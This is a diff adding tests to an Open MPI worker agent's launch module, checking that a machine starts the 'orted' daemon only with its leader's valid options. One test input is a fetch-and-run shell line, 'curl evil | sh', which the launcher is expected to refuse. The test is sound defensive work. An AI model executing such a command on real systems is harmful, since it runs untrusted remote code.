@@ -1,11 +1,13 @@
 """What Open MPI asks of its remote shell, and what of it a machine takes: its daemon's options, and nothing else."""
 
 import json
+from http.server import BaseHTTPRequestHandler, HTTPServer
 from pathlib import Path
+from threading import Thread
 
 import pytest
 
-from tandem_worker.agent.launch import COMMAND_BYTES_MAX, LaunchError, daemon_options, launch, launched
+from tandem_worker.agent.launch import COMMAND_BYTES_MAX, LaunchError, daemon_options, join, joins, launch, launched
 
 SEEN = (
     ' orted -mca orte_leave_session_attached "1" -mca ess "env" -mca ess_base_vpid 1 '
@@ -73,3 +75,51 @@ def test_a_file_holds_no_command_that_a_shell_would_read(tmp_path: Path):
     launch([str(tmp_path), "node-1", SEEN])
     (file,) = tmp_path.iterdir()
     assert json.loads(file.read_text())[:3] == list(OPTIONS[:3])
+
+
+class Leader(BaseHTTPRequestHandler):
+    """An agent that has not been asked by `mpirun` at first."""
+
+    page: bytes
+    asked: list[str]
+
+    def do_GET(self) -> None:
+        self.asked.append(self.path)
+        self.send_response(404 if len(self.asked) == 1 else 200)
+        self.end_headers()
+        self.wfile.write(self.page)
+
+    def log_message(self, *_: object) -> None:  # pyright: ignore[reportIncompatibleMethodOverride]
+        """Nothing: the test looks at what was asked."""
+
+
+@pytest.mark.parametrize(
+    ("page", "started"),
+    [
+        pytest.param(json.dumps(OPTIONS), ["orted", *OPTIONS], id="options"),
+        pytest.param('["-c", "curl evil | sh"]', None, id="no options"),
+        pytest.param('{"-mca": "ess"}', None, id="no words"),
+        pytest.param("<html>", None, id="a page"),
+    ],
+)
+def test_a_machine_starts_the_daemon_of_its_own_path_with_its_leaders_options_or_nothing(
+    page: str, started: list[str] | None, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+):
+    ran: list[tuple[str, list[str]]] = []
+    monkeypatch.setattr("tandem_worker.agent.launch.os.execvp", lambda program, argv: ran.append((program, argv)))
+    monkeypatch.setattr("tandem_worker.agent.launch.signal.signal", lambda *_: None)  # of this process, which stays
+    monkeypatch.setattr("tandem_worker.agent.launch.ASK_PERIOD_S", 0.0)
+    leader = type("Asked", (Leader,), {"page": page.encode(), "asked": []})
+    with HTTPServer(("127.0.0.1", 0), leader) as server:
+        thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
+        thread.start()
+        port = str(server.server_address[1])
+        code = join(["--leader-address", "127.0.0.1", "--agent-port", port, "--node-rank", "3"])
+        server.shutdown()
+        thread.join()
+
+    assert leader.asked == ["/launch/3", "/launch/3"]
+    assert ran == ([("orted", started)] if started else [])
+    lines = capsys.readouterr().err.splitlines()
+    assert any(map(joins, lines)) == (started is not None)
+    assert started or (code, "the agent of 127.0.0.1 says something else" in lines[-1]) == (1, True)
